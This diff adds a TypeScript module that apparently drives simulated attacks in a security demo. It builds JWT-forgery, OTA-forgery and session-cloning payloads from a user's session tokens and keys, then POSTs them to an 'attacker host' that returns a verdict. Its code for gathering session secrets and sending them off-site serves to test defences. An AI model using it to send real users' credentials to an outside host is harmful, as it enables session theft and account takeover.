@@ -1,0 +1,67 @@
+import { joinHistory } from '../ota/history'
+import type { UserInfo } from './user-info'
+
+/** What the attacker answers: its verdict, also when the HTTP status is 200. */
+export interface AttackVerdict {
+  message: string
+  statusCode: number
+}
+
+/** Body of spec §7, call 6. */
+export const jwtForgeryBody = (user: UserInfo, url: string) => ({
+  jsessionID: user.jsessionID,
+  jwt: user.token,
+  url,
+})
+
+/** Body of spec §7, call 7. @param ota a token for a request id that the attacker does not get. */
+export const otaForgeryBody = (user: UserInfo, ota: string, url: string) => ({
+  jsessionID: user.jsessionID,
+  ota,
+  url,
+})
+
+/** Body of spec §7, call 8: everything a script in the page could steal. */
+export const cloningBody = (user: UserInfo, url: string) => ({
+  deviceID: user.deviceId,
+  jsessionID: user.jsessionID,
+  sessionKey: user.sessionkey,
+  requestHistory: joinHistory(user.requestHistory),
+  url,
+})
+
+export type AttackBody = Readonly<Record<string, string>>
+
+/** Null unless the value is a verdict. */
+export function readVerdict(value: unknown): AttackVerdict | null {
+  if (typeof value !== 'object' || value === null) return null
+  if (!('message' in value) || typeof value.message !== 'string') return null
+  if (!('statusCode' in value) || !Number.isInteger(value.statusCode)) return null
+  return { message: value.message, statusCode: Number(value.statusCode) }
+}
+
+export type AttackOutcome = { ok: true; verdict: AttackVerdict } | { ok: false; message: string }
+
+/** Sends a stolen body to the attacker's host; a failure is an outcome, never a rejection. */
+export async function runAttack(
+  fetchFn: typeof fetch,
+  endpoint: string,
+  body: AttackBody,
+  signal: AbortSignal,
+): Promise<AttackOutcome> {
+  try {
+    const response = await fetchFn(endpoint, {
+      method: 'POST',
+      headers: { 'Content-Type': 'application/json' },
+      credentials: 'include',
+      body: JSON.stringify(body),
+      signal,
+    })
+    const verdict = readVerdict(await response.json().catch(() => null))
+    return verdict
+      ? { ok: true, verdict }
+      : { ok: false, message: 'The attacker host sent an answer that cannot be read.' }
+  } catch {
+    return { ok: false, message: 'The attacker host could not be reached.' }
+  }
+}
